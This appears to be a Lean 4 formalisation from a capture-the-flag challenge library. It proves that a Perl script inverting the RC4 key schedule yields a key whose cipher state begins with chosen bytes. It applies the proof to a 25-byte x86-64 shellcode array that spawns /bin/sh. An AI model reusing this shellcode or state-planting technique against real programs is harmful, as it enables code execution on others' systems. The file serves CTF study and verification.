import CtfChallenges.Ripc4.Cipher

/-!
# A key for a given state

`rc4_state_to_key.pl` runs the key schedule backwards: at each step it looks up where the wanted
byte stands and takes the key byte that moves `j` there. A Perl list of bytes is a list of `UInt8`;
its text is read and printed in hexadecimal.
-/

namespace CtfChallenges.Ripc4
open Framework

def isAlpha (c : Int8) : Bool := (0x61 ≤ c && c ≤ 0x7a) || (0x41 ≤ c && c ≤ 0x5a)

def packNibble (c : Int8) : Nat :=
  ((if isAlpha c then c.toInt + 9 else c.toInt) % 16).toNat

/-- `unpack('C*', pack('H*', text))`. -/
def packH : List Int8 → List UInt8
  | [] => []
  | [c] => [UInt8.ofNat (16 * packNibble c)]
  | c :: c' :: text => UInt8.ofNat (16 * packNibble c + packNibble c') :: packH text

def digit (d : Nat) : Int8 := Int8.ofNat (if d < 10 then 0x30 + d else 0x61 + (d - 10))

/-- `sprintf("%02x", $_)`. -/
def sprintf02x (b : UInt8) : List Int8 := [digit (b.toNat / 16), digit (b.toNat % 16)]

/-- The wanted state in hexadecimal, continued with `ff` to 256 bytes. -/
def pad (state_hex : List Int8) : List Int8 :=
  state_hex ++ (List.replicate (256 - (state_hex.length + 1) / 2) [0x66, 0x66]).flatten

/-- The variables of the loop. -/
structure Solver where
  byte_index : Rc4.State
  state : Rc4.State
  key : List UInt8
  i : Nat
  j : UInt8

def Solver.start : Solver := ⟨Rc4.identity, Rc4.identity, [], 0, 0⟩

/-- `($cur_j - ($j + $s) + 1024) & 0xff`. -/
def keyByte (cur_j j s : UInt8) : UInt8 :=
  UInt8.ofNat (mask ((cur_j.toNat : Int) - (j.toNat + s.toNat) + 1024)).val

/-- One pass of the loop. Past the 256th byte the script would extend its tables, which has no
value here. -/
def Solver.pass (t : Solver) (b : UInt8) : Option Solver :=
  if t.i < 256 then
    let i := UInt8.ofNat t.i
    let cur_j := Rc4.cell t.byte_index b
    let key_b := keyByte cur_j t.j (Rc4.cell t.state i)
    let state := Rc4.exchange t.state i cur_j
    let byte_index := Rc4.store t.byte_index (Rc4.cell state i) i
    let byte_index := Rc4.store byte_index (Rc4.cell state cur_j) cur_j
    some ⟨byte_index, state, t.key ++ [key_b], t.i + 1, cur_j⟩
  else none

def rc4_state_to_key (state_hex : List Int8) : Option (List Int8) :=
  ((packH (pad state_hex)).foldlM Solver.pass Solver.start).map fun t => t.key.flatMap sprintf02x

private theorem hexDigit_digit {d : Nat} (hd : d < 16) : hexDigit (digit d) = some d := by
  have hall : ∀ d : Fin 16, hexDigit (digit d.val) = some d.val := by decide
  exact hall ⟨d, hd⟩

private theorem Spells.append {line line' : List Int8} {key key' : List UInt8}
    (h : Spells line key) (h' : Spells line' key') : Spells (line ++ line') (key ++ key') := by
  induction h with
  | nil => exact h'
  | cons hc hc' _ ih => exact .cons hc hc' ih

theorem spells_sprintf02x (key : List UInt8) : Spells (key.flatMap sprintf02x) key := by
  induction key with
  | nil => exact .nil
  | cons b key ih =>
    have hb := b.toNat_lt
    have hjoin : UInt8.ofNat (16 * (b.toNat / 16) + b.toNat % 16) = b := by
      rw [Nat.div_add_mod, UInt8.ofNat_toNat]
    have hcons := Spells.cons (hexDigit_digit (d := b.toNat / 16) (by omega))
      (hexDigit_digit (d := b.toNat % 16) (by omega)) ih
    rw [hjoin] at hcons
    exact hcons

private theorem packNibble_hexDigit {c : Int8} {d : Nat} (h : hexDigit c = some d) :
    packNibble c = d := by
  have hall : ∀ n : Fin 256, ∀ d ∈ hexDigit (Int8.ofNat n.val), packNibble (Int8.ofNat n.val) = d := by
    decide +kernel
  have hc : Int8.ofNat c.toUInt8.toNat = c := by
    rw [← Int8.toInt8_toUInt8 (Int8.ofNat _), Int8.toUInt8_ofNat', UInt8.ofNat_toNat,
      Int8.toInt8_toUInt8]
  have hbyte := hall ⟨c.toUInt8.toNat, c.toUInt8.toNat_lt⟩ d
  rw [hc] at hbyte
  exact hbyte h

private theorem Spells.packH {line : List Int8} {key : List UInt8} (h : Spells line key) :
    packH line = key := by
  induction h with
  | nil => rfl
  | cons hc hc' _ ih => rw [Ripc4.packH, packNibble_hexDigit hc, packNibble_hexDigit hc', ih]

private theorem spells_pad {state_hex : List Int8} {goal : List UInt8}
    (h : Spells state_hex goal) :
    Spells (pad state_hex) (goal ++ List.replicate (256 - goal.length) 0xff) := by
  have hff : ∀ n, Spells (List.replicate n [0x66, 0x66]).flatten (List.replicate n 0xff) := by
    intro n
    induction n with
    | zero => exact .nil
    | succ n ih => exact @Spells.cons 0x66 0x66 15 15 _ _ (by decide) (by decide) ih
  have hlen : (state_hex.length + 1) / 2 = goal.length := by
    have := h.length
    omega
  rw [pad, hlen]
  exact h.append (hff _)

/-- After `m` passes: the table inverts the state, the state is that of the key schedule after `m`
passes over any continuation of the key, and the first `m` goal bytes are in place. -/
private structure Solver.Inv (goal : List UInt8) (m : Nat) (t : Solver) : Prop where
  position : t.i = m
  key_length : t.key.length = m
  inverse : ∀ b, Rc4.cell t.state (Rc4.cell t.byte_index b) = b
  scheduled : ∀ key, t.key <+: key → key.length = 256 →
    ((List.finRange 256).take m).foldl (Rc4.schedulePass key) (Rc4.identity, 0) = (t.state, t.j)
  filled : ∀ k b, k < m → goal[k]? = some b → Rc4.cell t.state (UInt8.ofNat k) = b

private theorem Solver.start_inv (goal : List UInt8) : Solver.start.Inv goal 0 := by
  constructor
  · rfl
  · rfl
  · intro b
    simp only [Solver.start, Rc4.cell_identity]
  · intro key _ _
    rfl
  · intro k b hk
    cases hk

private theorem keyByte_advances (cur_j j s : UInt8) : j + s + keyByte cur_j j s = cur_j := by
  apply UInt8.toNat_inj.mp
  have := cur_j.toNat_lt
  have := j.toNat_lt
  have := s.toNat_lt
  simp only [keyByte, mask, UInt8.toNat_add, UInt8.toNat_ofNat']
  omega

private theorem inverse_exchange {s byte_index : Rc4.State} (i c : UInt8)
    (h : ∀ b, Rc4.cell s (Rc4.cell byte_index b) = b) (b : UInt8) :
    Rc4.cell (Rc4.exchange s i c) (Rc4.cell (Rc4.store
      (Rc4.store byte_index (Rc4.cell (Rc4.exchange s i c) i) i)
      (Rc4.cell (Rc4.exchange s i c) c) c) b) = b := by
  rw [Rc4.cell_store]
  split
  · rename_i hb
    exact hb.symm
  · rename_i hbc
    rw [Rc4.cell_store]
    split
    · rename_i hb
      exact hb.symm
    · rename_i hbi
      have hc : Rc4.cell byte_index b ≠ c := by
        intro hc
        apply hbi
        rw [Rc4.cell_exchange_left, ← hc, h]
      have hi : Rc4.cell byte_index b ≠ i := by
        intro hi
        apply hbc
        rw [Rc4.cell_exchange_right, ← hi, h]
      rw [Rc4.cell_exchange_of_ne s hi hc, h]

private theorem Solver.Inv.pass {goal : List UInt8} {m : Nat} {t : Solver} (h : t.Inv goal m)
    (hm : m < 256) {b : UInt8} (hnew : b ∉ goal.take m) (hgoal : ∀ b', goal[m]? = some b' → b' = b) :
    ∃ t', t.pass b = some t' ∧ t'.Inv goal (m + 1) := by
  have hpos := h.position
  have hbyte : ∀ k, k < 256 → (UInt8.ofNat k).toNat = k := fun k hk => UInt8.toNat_ofNat_of_lt' hk
  refine ⟨_, by rw [Solver.pass, hpos, if_pos hm], ?_⟩
  constructor
  · rfl
  · simp only [List.length_append, h.key_length, List.length_singleton]
  · exact inverse_exchange _ _ h.inverse
  · intro key hkey hlen
    have hkey' : t.key <+: key := (List.prefix_append _ _).trans hkey
    -- the byte that the schedule reads at step `m` is the one just added
    have hread : key.getD m 0 =
        keyByte (Rc4.cell t.byte_index b) t.j (Rc4.cell t.state (UInt8.ofNat m)) := by
      obtain ⟨rest, hrest⟩ := hkey
      rw [← hrest, List.append_assoc, List.getD_eq_getElem?_getD,
        List.getElem?_append_right (by rw [h.key_length]), h.key_length, Nat.sub_self]
      rfl
    rw [List.take_succ_eq_append_getElem (by simpa using hm), List.foldl_append,
      h.scheduled key hkey' hlen]
    simp only [List.foldl_cons, List.foldl_nil, List.getElem_finRange, Rc4.schedulePass, hlen,
      Nat.mod_eq_of_lt hm, Fin.cast_mk, hread, keyByte_advances]
  · intro k b' hk hb'
    by_cases hkm : k = m
    · subst hkm
      rw [Rc4.cell_exchange_left, h.inverse, hgoal b' hb']
    · have hlt : k < m := by omega
      rw [Rc4.cell_exchange_of_ne]
      · exact h.filled k b' hlt hb'
      · intro heq
        have := congrArg UInt8.toNat heq
        rw [hbyte k (by omega), hbyte m hm] at this
        exact hkm this
      · intro heq
        apply hnew
        have hb : b' = b := by rw [← h.filled k b' hlt hb', heq, h.inverse]
        rw [← hb, List.mem_iff_getElem?]
        exact ⟨k, by rw [List.getElem?_take_of_lt hlt, hb']⟩

private theorem Solver.run_inv {goal : List UInt8} (hlen : goal.length ≤ 256) (hnodup : goal.Nodup)
    (hff : goal.length < 256 → 0xff ∉ goal) (m : Nat) (hm : m ≤ 256) :
    ∃ t, ((goal ++ List.replicate (256 - goal.length) 0xff).take m).foldlM Solver.pass Solver.start =
      some t ∧ t.Inv goal m := by
  induction m with
  | zero => exact ⟨_, rfl, Solver.start_inv goal⟩
  | succ m ih =>
    obtain ⟨t, hrun, hinv⟩ := ih (by omega)
    have hget : ∃ b, (goal ++ List.replicate (256 - goal.length) (0xff : UInt8))[m]? = some b ∧
        b ∉ goal.take m ∧ ∀ b', goal[m]? = some b' → b' = b := by
      by_cases hgoal : m < goal.length
      · refine ⟨goal[m], ?_, ?_, ?_⟩
        · rw [List.getElem?_append_left hgoal, List.getElem?_eq_getElem hgoal]
        · intro hmem
          obtain ⟨k, hk, heq⟩ := List.mem_take_iff_getElem.mp hmem
          have := (hnodup.getElem_inj_iff).mp heq
          omega
        · intro b' hb'
          rw [List.getElem?_eq_getElem hgoal] at hb'
          exact (Option.some.inj hb').symm
      · refine ⟨0xff, ?_, ?_, ?_⟩
        · rw [List.getElem?_append_right (by omega), List.getElem?_replicate, if_pos (by omega)]
        · intro hmem
          exact hff (by omega) (List.mem_of_mem_take hmem)
        · intro b' hb'
          rw [List.getElem?_eq_none (by omega)] at hb'
          cases hb'
    obtain ⟨b, hb, hnew, hsame⟩ := hget
    obtain ⟨t', hpass, hinv'⟩ := hinv.pass (by omega) hnew hsame
    refine ⟨t', ?_, hinv'⟩
    rw [List.take_add_one, hb, List.foldlM_append, hrun]
    simp only [Option.toList_some, List.foldlM_cons, List.foldlM_nil, Option.bind_eq_bind,
      Option.bind_some, hpass, Option.pure_def]

private theorem rc4_state_to_key_spec {goal : List UInt8} (hlen : goal.length ≤ 256)
    (hnodup : goal.Nodup) (hff : goal.length < 256 → 0xff ∉ goal) {state_hex : List Int8}
    (h : Spells state_hex goal) :
    ∃ line key, rc4_state_to_key state_hex = some line ∧ Spells line key ∧ key.length = 256 ∧
      ∀ k b, goal[k]? = some b → Rc4.cell (Rc4.schedule key) (UInt8.ofNat k) = b := by
  obtain ⟨t, hrun, hinv⟩ := Solver.run_inv hlen hnodup hff 256 (Nat.le_refl _)
  rw [List.take_of_length_le (by simp; omega)] at hrun
  refine ⟨t.key.flatMap sprintf02x, t.key, ?_, spells_sprintf02x _, hinv.key_length, ?_⟩
  · rw [rc4_state_to_key, (spells_pad h).packH, hrun, Option.map_some]
  · intro k b hb
    have hall := hinv.scheduled t.key (List.prefix_refl _) hinv.key_length
    rw [List.take_of_length_le (by simp)] at hall
    have hstate : Rc4.schedule t.key = t.state := congrArg Prod.fst hall
    have hk : k < 256 := by
      have := (List.getElem?_eq_some_iff.mp hb).1
      omega
    rw [hstate]
    exact hinv.filled k b hk hb

private theorem take_toList_of_cells {s : Rc4.State} {goal : List UInt8} (hlen : goal.length ≤ 256)
    (h : ∀ k b, goal[k]? = some b → Rc4.cell s (UInt8.ofNat k) = b) :
    s.toList.take goal.length = goal := by
  apply List.ext_getElem?
  intro k
  by_cases hk : k < goal.length
  · have hcell := h k goal[k] (List.getElem?_eq_getElem hk)
    rw [List.getElem?_take_of_lt hk, List.getElem?_eq_getElem hk, ← hcell,
      List.getElem?_eq_getElem (by simp; omega)]
    have hbyte : (UInt8.ofNat k).toNat = k :=
      UInt8.toNat_ofNat_of_lt' (Nat.lt_of_lt_of_le hk hlen)
    simp only [Rc4.cell, Fin.getElem_fin, UInt8.toFin_val, hbyte, Vector.getElem_toList]
  · rw [List.getElem?_eq_none (by simp; omega), List.getElem?_eq_none (by omega)]

/-- For a goal of at most 256 distinct bytes, without `ff` where the script pads with it, `set_key`
with the printed key stores a state that begins with the goal. Every permutation of the bytes is
the state of some key of 256 bytes. -/
theorem schedule_inverted :
    (∀ goal : List UInt8, goal.length ≤ 256 → goal.Nodup → (goal.length < 256 → 0xff ∉ goal) →
      ∀ state_hex, Spells state_hex goal →
        ∃ line key, rc4_state_to_key state_hex = some line ∧ Spells line key ∧ key.length = 256 ∧
          ∀ ws, ∃ s, set_key ws (some line) = { ws with enc := .enc_state s } ∧
            (unsigned s).toList.take goal.length = goal) ∧
    (∀ target : Rc4.State, target.Perm Rc4.identity →
      ∃ line key, Spells line key ∧ key.length = 256 ∧
        ∀ ws, ∃ s, set_key ws (some line) = { ws with enc := .enc_state s } ∧
          unsigned s = target) := by
  have hgoal : ∀ goal : List UInt8, goal.length ≤ 256 → goal.Nodup →
      (goal.length < 256 → 0xff ∉ goal) → ∀ state_hex, Spells state_hex goal →
        ∃ line key, rc4_state_to_key state_hex = some line ∧ Spells line key ∧ key.length = 256 ∧
          ∀ ws, ∃ s, set_key ws (some line) = { ws with enc := .enc_state s } ∧
            (unsigned s).toList.take goal.length = goal := by
    intro goal hlen hnodup hff state_hex h
    obtain ⟨line, key, hline, hspells, hkey, hcells⟩ := rc4_state_to_key_spec hlen hnodup hff h
    refine ⟨line, key, hline, hspells, hkey, fun ws => ?_⟩
    obtain ⟨s, hset, hs⟩ := set_key_spells hspells (by omega) (by omega) ws
    refine ⟨s, hset, ?_⟩
    rw [hs]
    exact take_toList_of_cells hlen hcells
  refine ⟨hgoal, ?_⟩
  intro target hperm
  have hlen : target.toList.length = 256 := Vector.length_toList
  have hnodup : target.toList.Nodup := hperm.toList.nodup_iff.mpr Rc4.nodup_identity
  obtain ⟨line, key, -, hspells, hkey, hset⟩ := hgoal target.toList (by omega) hnodup (by omega)
    _ (spells_sprintf02x _)
  refine ⟨line, key, hspells, hkey, fun ws => ?_⟩
  obtain ⟨s, hrun, hs⟩ := hset ws
  rw [hlen, List.take_of_length_le (by simp)] at hs
  exact ⟨s, hrun, Vector.toList_inj.mp hs⟩

/-- The instructions that the script asks for. -/
def shellcode : List UInt8 :=
  [0x31, 0xf6, 0x56, 0x48, 0xbb, 0x2e, 0x62, 0x69, 0x6e, 0x2f, 0x73, 0x68, 0x00, 0x80, 0xcb, 0x01,
    0x53, 0x54, 0x5f, 0xf7, 0xee, 0xb0, 0x3b, 0x0f, 0x05]

/-- The key that the script prints starts the state with the instructions. -/
theorem schedule_inverted_shellcode :
    ∃ line key, rc4_state_to_key (shellcode.flatMap sprintf02x) = some line ∧ Spells line key ∧
      key.length = 256 ∧ ∀ ws, ∃ s, set_key ws (some line) = { ws with enc := .enc_state s } ∧
        (unsigned s).toList.take shellcode.length = shellcode :=
  schedule_inverted.1 shellcode (by decide) (by decide) (by decide) _ (spells_sprintf02x shellcode)

end CtfChallenges.Ripc4
